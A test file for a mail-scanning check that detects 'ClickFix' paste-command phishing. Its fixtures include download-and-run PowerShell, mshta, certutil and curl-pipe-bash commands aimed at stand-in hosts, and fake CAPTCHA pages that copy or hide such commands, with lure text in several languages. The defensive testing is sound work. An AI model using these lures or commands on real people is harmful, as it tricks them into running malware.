// The paste-command check ("ClickFix" by e-mail): a command that downloads and runs something, and
// where to paste it, in the offices' languages and charsets. And the honest mail that has a part:
// a vendor's support mail with a harmless command, a security newsletter naming the trick.
import iconv from 'iconv-lite';
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { pasteCommandCheck } from '../../../src/pipeline/checks/paste-command.ts';
import { mailWithDocuments } from '../../helpers/pdf.ts';
import { hitLines, plainTextMail } from './util.ts';

const run = hitLines(pasteCommandCheck);
const mail = (body: string, charset = 'utf-8'): Buffer => plainTextMail('IT Support <it-support@helpdesk.example>', 'carol@example.com', body, charset, 'Outlook');

describe('commands to paste', () => {
  it('the Outlook "certificate fix": PowerShell fetching a script and running it, pasted into the Run box', async () => {
    const body = '1. Press the Windows key + R\n2. Copy the line below and paste it into the Run box (Ctrl+V)\n3. Press Enter\n\npowershell -w h -nop -c "irm https://cdn.o365-certfix.example/kb5041978 | iex"';
    assert.deepEqual(await run(mail(body)), ['PASTE_COMMAND_LURE: a command that downloads and runs: "powershell -w h -nop -c "irm https://cdn.o365-certfix.example/kb5041978 | iex", to paste at "windows key + r"']);
  });

  it('in the offices\' languages and charsets, and the other commands that fetch and run', async () => {
    const cases: Array<[string, string]> = [
      ['Drücken Sie die Windows-Taste + R und fügen Sie ein: mshta https://verify.example/captcha.hta', 'iso-8859-15'],
      ['Pulse la tecla Windows + R y pegue: powershell -enc SQBFAFgAIAAoAGkAcgBtACAAaAB0AHQAcABzADoALwAvAHgALgBlAHgAYQBtAHAAbABlACkA', 'windows-1252'],
      ['Premere il tasto Windows + R e incollare: cmd /c certutil -urlcache -split -f https://x.example/a.exe a.exe', 'iso-8859-15'],
      ['Naciśnij klawisz Windows + R i wklej: powershell -c "iex (iwr https://x.example/fix.ps1)"', 'iso-8859-2'],
      ['Нажмите клавиши Windows + R и вставьте: powershell -c "irm https://x.example/upd | iex"', 'koi8-r'],
      ['Πατήστε το πλήκτρο Windows + R και επικολλήστε: powershell -c "irm https://x.example/upd | iex"', 'iso-8859-7'],
      ['Open Terminal and paste: curl -fsSL https://x.example/install.sh | bash', 'us-ascii'],
    ];
    for (const [body, charset] of cases) assert.equal((await run(mail(body, charset))).length, 1, `${charset}: ${body}`);
  });

  it('not a harmless command, a command without where to paste it, or a newsletter naming the trick', async () => {
    assert.deepEqual(await run(mail('Please press Windows + R, type outlook.exe /safe and press Enter.')), []);
    assert.deepEqual(await run(mail('In PowerShell run: Get-Mailbox -Identity carol | Format-List')), []);
    assert.deepEqual(await run(mail('Our script log: powershell -c "irm https://repo.example/tool.ps1 | iex" ran at 03:00 on the build server.')), []);
    assert.deepEqual(await run(mail('Beware of "ClickFix": fake pages ask you to press Windows + R and paste a command. Never do it.')), []);
  });

  it('the fake CAPTCHA: an attached page whose script copies a command to the clipboard, and the steps to paste it (the sixteenth held-out pair)', async () => {
    const page = (script: string, steps: string): Buffer => Buffer.from(`<html><body><p>Confirme que no es un robot.</p><input type="checkbox" onclick="go()"> No soy un robot
<div style="display:none" id="s"><ol>${steps}</ol></div><script>function go(){ ${script} }</script></body></html>`);
    const head = 'From: DocuFirma <no-reply@docufirma.example>\r\nTo: carol@example.com\r\nSubject: Documento pendiente de firma\r\n';
    const steps = '<li>Pulse la tecla <kbd>Windows</kbd> + <kbd>R</kbd></li><li>Pulse <kbd>Ctrl</kbd> + <kbd>V</kbd></li><li>Pulse <kbd>Intro</kbd></li>';
    // the command need not download anything readable: it is never shown, only pasted
    const lure = page('navigator.clipboard.writeText("powershell -w h -nop -c \\"Write-Output test\\" # Verificacion ID: 7741");', steps);
    assert.deepEqual(await run(mailWithDocuments(head, 'Abra el documento en su navegador.', ['Contrato.html', lure])), [
      'PASTE_COMMAND_LURE: a page\'s script puts a command on the clipboard ("powershell"…) in the attached page Contrato.html, to paste at "tecla windows + r"',
    ]);
    assert.equal((await run(mailWithDocuments(head, 'Anbei.', ['Rechnung.htm', page('var t=document.getElementById("c"); t.select(); document.execCommand("copy"); // mshta https://x.example/v.hta', steps.replace('Pulse la tecla', 'Drücken Sie die'))]))).length, 1, 'execCommand copy, mshta');
    // a page that copies a tracking number, or names PowerShell without copying it, is no lure
    assert.deepEqual(await run(mailWithDocuments(head, 'Anbei.', ['Sendung.html', page('navigator.clipboard.writeText("JJD0001234567");', '<li>Ctrl + V in das Suchfeld</li>')])), []);
    assert.deepEqual(await run(mailWithDocuments(head, 'Anbei.', ['Anleitung.html', page('/* powershell */', '<li>Ctrl + V in das Suchfeld</li>')])), []);
  });

  it('the fake CAPTCHA whose command waits in a hidden text box, the steps naming the Run box and the paste (the thirty-second held-out pair)', async () => {
    const head = 'From: Harbour Foods Remittance <accounts@dental.example>\r\nTo: sarah@example.com\r\nSubject: Remittance Advice\r\n';
    const page = (box: string, steps: string): Buffer => Buffer.from(`<html><body><h2>Verify you are human</h2><input type="checkbox" id="c"> I'm not a robot
<div id="s" style="display:none"><ol>${steps}</ol></div><textarea id="p" style="position:absolute;left:-9999px">${box}</textarea></body></html>`);
    const steps = '<li>Press <kbd>Windows</kbd> + <kbd>R</kbd></li><li>Press <kbd>CTRL</kbd> + <kbd>V</kbd></li><li>Press <kbd>Enter</kbd></li>';
    assert.deepEqual(await run(mailWithDocuments(head, 'Please open it in your browser.', ['Remittance.html', page('cmd /c start /min mshta https://x.example/r # I am not a robot', steps)])), [
      'PASTE_COMMAND_LURE: a page holds a command for the Run box ("cmd /c"…) in the attached page Remittance.html, to paste at "windows + r"',
    ]);
    // the Run box to type a program's name into, or a help page's path to paste there, is no lure
    const help = Buffer.from(`<html><body><h2>Scans abholen</h2><ol>${steps}</ol><textarea>\\\\fileserver\\scans</textarea></body></html>`);
    assert.deepEqual(await run(mailWithDocuments(head, 'Anleitung.', ['Hilfe.html', help])), []);
    assert.deepEqual(await run(mailWithDocuments(head, 'Guide.', ['Help.html', page('cmd /c ipconfig', '<li>Press Windows + R and type mstsc</li>')])), []);
  });

  it('an attached page that shows a command that downloads and runs, and the Run box, no paste key (the sixty-fourth pair\'s "complaint" with photos)', async () => {
    const head = 'From: Sandra Köhler <sandra.koehler.hr@mail.example>\r\nTo: lena@example.com\r\nSubject: Beschwerde\r\n';
    const page = (command: string): Buffer => Buffer.from(`<html><body><h3>Bestätigen Sie, dass Sie ein Mensch sind</h3><ol><li>Drücken Sie <b>Windows-Taste + R</b></li><li>Geben Sie den Prüfcode ein</li><li>Drücken Sie Enter</li></ol><code>${command}</code></body></html>`);
    assert.deepEqual(await run(mailWithDocuments(head, 'Fotos und Arztbrief im Anhang.', ['Beschwerde_Fotos.html', page('mshta https://verify-cdn-docs.example/cf/ch?id=7741 # Ich bin kein Roboter')])), [
      'PASTE_COMMAND_LURE: a command that downloads and runs: "mshta https://verify-cdn-docs.example/cf/ch?id=7741", to paste at "windows-taste + r"',
    ]);
    // a command that fetches nothing is no lure there either
    assert.deepEqual(await run(mailWithDocuments(head, 'Anleitung im Anhang.', ['Anleitung.html', page('ipconfig /all')])), []);
  });

  it('an error and a "fix" to copy, then the Run box and the paste, with no command in the page (the ninety-seventh pair\'s "Prüfbericht")', async () => {
    const head = 'From: Brenner Sicherheitstechnik <service@brenner.example>\r\nTo: lena@example.com\r\nSubject: Prüfbericht EMA\r\n';
    const fix = Buffer.from('<html><body><p>Die Vorschau konnte nicht geladen werden. Fehler 0x8004FC12.</p><ol><li>Klicken Sie auf <b>Lösung kopieren</b></li><li>Drücken Sie <kbd>Windows</kbd> + <kbd>R</kbd></li><li>Fügen Sie mit <kbd>Strg</kbd> + <kbd>V</kbd> ein und drücken Sie Enter</li></ol></body></html>');
    assert.deepEqual(await run(mailWithDocuments(head, 'Den Bericht erhalten Sie im Anhang als Online-Vorschau.', ['Pruefbericht.html', fix])), [
      'PASTE_COMMAND_LURE: a page posing as an error with a fix to copy tells to open the Run box and paste in the attached page Pruefbericht.html, to paste at "windows + r"',
    ]);
    // an IT page that tells to open a share through the Run box copies no "fix"
    const share = Buffer.from('<html><body><ol><li>Drücken Sie Windows + R</li><li>Fügen Sie mit Strg + V den Pfad \\\\fs01\\projekte ein</li></ol></body></html>');
    assert.deepEqual(await run(mailWithDocuments(head, 'Anleitung im Anhang.', ['Anleitung.html', share])), []);
  });

  it('the fake CAPTCHA with no command in it, which its kit fetches when the page opens: a human verification that names the Run box and the paste (the forty-second held-out pair)', async () => {
    const head = 'From: Daniel Harper <purchasing@marine.example>\r\nTo: lena@example.com\r\nSubject: RFQ 26-1187\r\n';
    const page = (title: string, steps: string): Buffer => Buffer.from(`<html><body><h2>${title}</h2><div class="cb"><span class="box"></span> reCAPTCHA</div><ol>${steps}</ol></body></html>`);
    const steps = '<li>Press <kbd>Windows</kbd> + <kbd>R</kbd></li><li>Press <kbd>CTRL</kbd> + <kbd>V</kbd></li><li>Press <kbd>Enter</kbd></li>';
    assert.deepEqual(await run(mailWithDocuments(head, 'The document opens in your browser.', ['RFQ_26-1187.html', page('Verify you are human', steps)])), [
      'PASTE_COMMAND_LURE: a page posing as a human verification tells to open the Run box and paste in the attached page RFQ_26-1187.html, to paste at "windows + r"',
    ]);
    for (const [title, localSteps] of [
      ['Ich bin kein Roboter', '<li>Drücken Sie Windows + R</li><li>Drücken Sie Strg + V</li>'],
      ['Я не робот', '<li>Нажмите клавишу Windows + R</li><li>Нажмите Ctrl + V</li>'],
      ['Nie jestem robotem', '<li>Naciśnij klawisz Windows + R</li><li>Naciśnij Ctrl + V</li>'],
      // the keys in words (the seventy-fourth pair's trade-fair badge page)
      ['Verify you are human', '<p>1. Press and hold the Windows key <kbd>&#8862;</kbd> and press <kbd>R</kbd></p><p>2. Press <kbd>Ctrl</kbd> + <kbd>V</kbd></p>'],
      ['Ich bin kein Roboter', '<p>Halten Sie die Windows-Taste gedrückt und drücken Sie R</p><p>Drücken Sie Strg + V</p>'],
    ]) assert.equal((await run(mailWithDocuments(head, 'Anbei.', ['Dokument.html', page(title, localSteps)]))).length, 1, title);
    // the mail itself announcing the portal's "robot check" with both steps (the eighty-third pair's fake Rentalcars.com complaint, in Greek)
    const greek = Buffer.concat([Buffer.from('From: Rentalcars.com Supplier Support <reservations@villa.example>\r\nTo: lena@example.com\r\nSubject: Complaint\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=iso-8859-7\r\n\r\n'),
      iconv.encode('<p>Για λόγους ασφαλείας η πύλη θα σας ζητήσει να επιβεβαιώσετε ότι δεν είστε ρομπότ: πατήστε τα πλήκτρα Windows + R, επικολλήστε τον κωδικό επαλήθευσης με Ctrl + V και πατήστε Enter.</p>', 'iso-8859-7')]);
    assert.deepEqual(await run(greek), ['PASTE_COMMAND_LURE: a page posing as a human verification tells to open the Run box and paste, to paste at "windows + r"']);
    // a real form's CAPTCHA without the Run box, or the Run box without a CAPTCHA, is no lure
    assert.deepEqual(await run(mailWithDocuments(head, 'Form.', ['Kontakt.html', page('Verify you are human', '<li>Copy your ticket number (Ctrl + V into the field)</li>')])), []);
    assert.deepEqual(await run(mailWithDocuments(head, 'Guide.', ['Help.html', Buffer.from(`<html><body><ol>${steps}</ol></body></html>`)])), []);
  });
});
